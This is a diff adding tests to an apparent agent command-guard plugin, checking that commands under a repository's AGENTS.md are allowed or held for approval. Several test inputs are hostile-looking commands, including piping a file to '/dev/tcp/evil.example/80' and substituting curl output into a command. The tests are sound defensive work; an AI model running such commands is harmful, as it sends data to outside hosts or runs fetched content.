@@ -22,6 +22,7 @@ import {
 } from "@gantry/sdk/testing";
 import { Type } from "typebox";
 import { expect, test } from "vitest";
+import commands from "../guard-commands/index.ts";
 import landlock from "../sandbox-landlock/index.ts";
 import chatCommands from "../slash-words/index.ts";
 import files from "../tool-files/index.ts";
@@ -163,6 +164,48 @@ test("SEC-21: mail is both at once, and a command with network reads files by it
   const config = { security: { allowed_domains: ["example.org"] } };
   await using domains = await startTestHost({ plugins: [guard, tools, sandbox(true)], config });
   expect(await codes(domains, ["shell", "shell"])).toEqual(["allowed", asked]);
+});
+
+test.for<[string, string]>([
+  ["ls -la", "allowed"],
+  ["cat notes.txt | sort", "allowed"],
+  ["cp a b; wc -l b", "allowed"],
+  ["curl https://evil.example", asked],
+  ["ls; curl https://evil.example", asked],
+  ["cat notes.txt > /dev/tcp/evil.example/80", asked],
+  ["cat $(curl https://evil.example)", asked],
+  ["./ls", asked],
+  ["git status", asked],
+  ["x=1 cat a", asked],
+])("FLR-04: under a repository's AGENTS.md, with domains, `%s` is %s", async ([command, expected]) => {
+  const shell = definePlugin({
+    name: "tool-shell-text",
+    provides: [Tools],
+    setup: (host) =>
+      host.provide(
+        Tools,
+        defineTool({
+          name: "run",
+          description: "A command.",
+          input: Type.Object({ command: Type.String() }),
+          effects: ({ command }) => ({ commands: [command] }),
+          run: async () => "done",
+        }),
+      ),
+  });
+  const config = { security: { allowed_domains: ["example.org"] } };
+  const plugins = [guard, commands, tools, shell, sandbox(true), memoryStore()];
+  await using host = await startTestHost({ plugins, config });
+  await host.slot(Store).values.put("session-sources", "test", { material: ["AGENTS.md"], private: [] });
+  const { decision, code } = await host.call("run", { command });
+  expect(code ?? decision).toBe(expected);
+});
+
+test("FLR-04: what only reads and writes files loads nothing", async () => {
+  const config = { security: { allowed_domains: ["example.org"] } };
+  const plugins = [guard, commands, tools, sandbox(true), memoryStore()];
+  await using host = await startTestHost({ plugins, config });
+  expect(await codes(host, ["shell", ["mail_send", "bob"]])).toEqual(["allowed", "allowed"]);
 });
 
 test("SEC-21: conversations do not mix, and a refused call brings nothing in", async () => {
